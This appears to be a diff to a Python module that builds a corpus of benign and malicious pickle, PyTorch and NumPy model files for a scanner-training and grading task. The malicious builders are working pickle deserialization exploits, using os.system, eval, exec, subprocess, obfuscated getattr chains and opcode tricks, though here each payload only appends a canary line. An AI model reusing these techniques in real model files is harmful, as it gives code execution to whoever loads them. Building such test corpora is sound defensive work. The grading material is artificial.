@@ -3,12 +3,12 @@
 Used by the recipe (the public samples, fixed seed) and by the grader (a fresh corpus per
 grading, from the secret grader seed). Every malicious file, if a victim loads it with the
 loader its format invites (``pickle.load``, ``torch.load(weights_only=False)``,
-``np.load(allow_pickle=True)``), runs a payload that only writes a canary file named
-<canary prefix><file stem>. The grader uses a relative prefix with a secret token, so the
-canary lands in the working folder of whatever process runs the payload (the learner's
-child process writes only in its private scratch folder, which is its working folder); the
-grader checks that no canary ever appears. This module only ever *writes* pickles; nothing here
-unpickles anything.
+``np.load(allow_pickle=True)``), runs a payload that only appends one line to one file:
+``canary(file stem)`` gives the absolute path and the line. The grader passes
+_shared.canary.CanaryPipe.target (a FIFO it reads, the line the file stem); the public samples
+append "payload ran" to /tmp/mlrange-sample-canary-<stem>. An absolute path means the report
+arrives whichever process or folder runs the payload. This module only ever *writes* pickles;
+nothing here unpickles anything.
 """
 
 import codecs
@@ -20,6 +20,7 @@ import subprocess
 import time
 import timeit
 from collections import OrderedDict
+from collections.abc import Callable
 from dataclasses import dataclass
 
 import numpy as np
@@ -64,56 +65,61 @@ class Call:
         return (self.func, self.args)
 
 
-def _write_python(canary: str) -> str:
-    return f"open({canary!r}, 'w').write('payload ran')"
+Target = tuple[str, str]  # (absolute path a payload appends to, the line it writes)
 
 
-def _shell(canary: str) -> str:
-    return f"echo payload ran > '{canary}'"
+def _write_python(canary: Target) -> str:
+    path, line = canary
+    return f"open({path!r}, 'ab', 0).write({(line + chr(10)).encode()!r})"
 
 
-# --- payload objects (each writes the canary when unpickled) ------------------------------
+def _shell(canary: Target) -> str:
+    path, line = canary
+    return f"echo '{line}' >> '{path}'"
 
 
-def _os_system(canary: str) -> bytes:
+# --- payload objects (each reports to the canary when unpickled) -------------------------
+
+
+def _os_system(canary: Target) -> bytes:
     """Handwritten protocol 2: c os/system, the classic."""
     cmd = _shell(canary).encode()
     return b"\x80\x02cos\nsystem\nX" + len(cmd).to_bytes(4, "little") + cmd + b"\x85R."
 
 
-def _eval(canary: str, protocol: int) -> bytes:
+def _eval(canary: Target, protocol: int) -> bytes:
     return pickle.dumps(Call(eval, _write_python(canary)), protocol=protocol)
 
 
-def _subprocess(canary: str, protocol: int) -> bytes:
+def _subprocess(canary: Target, protocol: int) -> bytes:
     return pickle.dumps(Call(subprocess.check_output, ["/bin/sh", "-c", _shell(canary)]), protocol=protocol)
 
 
-def _exec_protocol0(canary: str) -> bytes:
+def _exec_protocol0(canary: Target) -> bytes:
     return pickle.dumps(Call(exec, _write_python(canary)), protocol=0)
 
 
-def _getattr_chain(canary: str, protocol: int, *, rot13: bool) -> object:
+def _getattr_chain(canary: Target, protocol: int, *, rot13: bool) -> object:
     name = Call(codecs.decode, "flfgrz", "rot13") if rot13 else "system"
     system = Call(getattr, Call(__import__, "os"), name)
     return Call(system, _shell(canary))
 
 
-def _timeit(canary: str, protocol: int) -> bytes:
+def _timeit(canary: Target, protocol: int) -> bytes:
     payload = Call(timeit.timeit, _write_python(canary), "pass", time.perf_counter, 1)
     return pickle.dumps(payload, protocol=protocol)
 
 
-def _runpy_object(canary: str) -> object:
+def _runpy_object(canary: Target) -> object:
     return Call(runpy._run_code, _write_python(canary), {})
 
 
-def _inst_protocol0(canary: str) -> bytes:
+def _inst_protocol0(canary: Target) -> bytes:
     """Protocol 0 INST opcode: instantiates os.system with the command, no GLOBAL at all."""
     return b"(S'" + _shell(canary).encode() + b"'\nios\nsystem\n."
 
 
-def _stack_global_memo(canary: str) -> bytes:
+def _stack_global_memo(canary: Target) -> bytes:
     """Protocol 4 with the module and name parked in the memo before STACK_GLOBAL."""
     src = _write_python(canary).encode()
     body = (
@@ -175,7 +181,7 @@ def _npy_object(payload: object) -> bytes:
 
 
 # --- families -------------------------------------------------------------------------------
-# Each builder: (rng, canary) -> (bytes, extension).
+# Each builder: (rng, canary target) -> (bytes, extension).
 
 RAW_EXT = (".pkl", ".pickle", ".bin")
 TORCH_EXT = (".pt", ".pth", ".bin")
@@ -261,8 +267,10 @@ def _name(rng: random.Random, extension: str) -> str:
     return f"model-{rng.getrandbits(40):010x}{extension}"
 
 
-def build_corpus(rng: random.Random, canary_prefix: str, *, public: bool = False) -> list[CorpusFile]:
-    """Benign and malicious files; payloads write <canary_prefix><file stem> if ever executed.
+def build_corpus(
+    rng: random.Random, canary: Callable[[str], Target], *, public: bool = False
+) -> list[CorpusFile]:
+    """Benign and malicious files; a payload, if ever run, appends line to path, (path, line) = canary(stem).
 
     public=True: the learners' samples (known families and the public benign kinds only).
     """
@@ -270,8 +278,8 @@ def build_corpus(rng: random.Random, canary_prefix: str, *, public: bool = False
 
     def add(family: str, builder, *, malicious: bool, known: bool) -> None:
         name = _name(rng, ".tmp")
-        canary = canary_prefix + name.removesuffix(".tmp")
-        data, extension = builder(rng, canary) if malicious else builder(rng)
+        target = canary(name.removesuffix(".tmp"))
+        data, extension = builder(rng, target) if malicious else builder(rng)
         files.append(CorpusFile(name.replace(".tmp", extension), data, malicious, family, known))
 
     for family, builder in MALICIOUS_KNOWN.items():
@@ -288,6 +296,6 @@ def build_corpus(rng: random.Random, canary_prefix: str, *, public: bool = False
     return files
 
 
-def canary_name(file: CorpusFile) -> str:
-    """The canary a file's payload writes (its name without the extension)."""
+def stem(file: CorpusFile) -> str:
+    """The identifier a file's payload reports (its name without the extension)."""
     return file.name.rsplit(".", 1)[0]
